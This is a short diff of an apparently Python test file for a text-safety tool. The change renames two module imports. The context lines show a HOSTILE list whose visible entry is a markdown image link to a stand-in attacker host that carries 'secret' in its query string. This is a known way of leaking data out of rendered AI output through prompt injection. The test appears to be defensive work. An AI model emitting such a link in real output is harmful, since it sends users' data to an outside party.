@@ -11,10 +11,10 @@ from markdown_it import MarkdownIt
 from test_formats import result
 
 from spanwise.export.formats import FORMATS
-from spanwise.export.providers import link
+from spanwise.export.provider_formats import link
 from spanwise.guard.report import page
 from spanwise.guard.verify import verify
-from spanwise.text.injection.links import unlinked
+from spanwise.text.injection.marks import unlinked
 
 HOSTILE = [
     "![fee](https://evil.example/x.png?q=secret)",
